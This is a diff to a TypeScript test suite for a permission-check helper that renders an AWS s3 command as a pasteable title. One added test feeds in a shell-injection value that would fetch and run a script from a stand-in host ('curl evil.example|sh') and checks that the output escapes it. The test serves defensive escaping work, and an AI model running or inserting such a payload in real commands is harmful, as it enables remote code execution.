@@ -31,6 +31,16 @@ describe('permissions.*', () => {
     });
   });
 
+  it('names a command that nothing breaks out of when it is pasted', () => {
+    const { title } = permissionCheckFor({
+      name: 's3',
+      command: ['s3', 'ls', "';curl evil.example|sh;'"],
+    });
+    expect(title).toBe(
+      "The pod may run aws s3 ls ''\\'';curl evil.example|sh;'\\'''",
+    );
+  });
+
   it('shows the statement only where it helps', () => {
     const text = (why: string) =>
       `An error occurred (AccessDenied) when calling the ListBuckets operation: User: arn:aws:sts::111122223333:assumed-role/r/eks-a is not authorized to perform: s3:ListAllMyBuckets ${why}`;
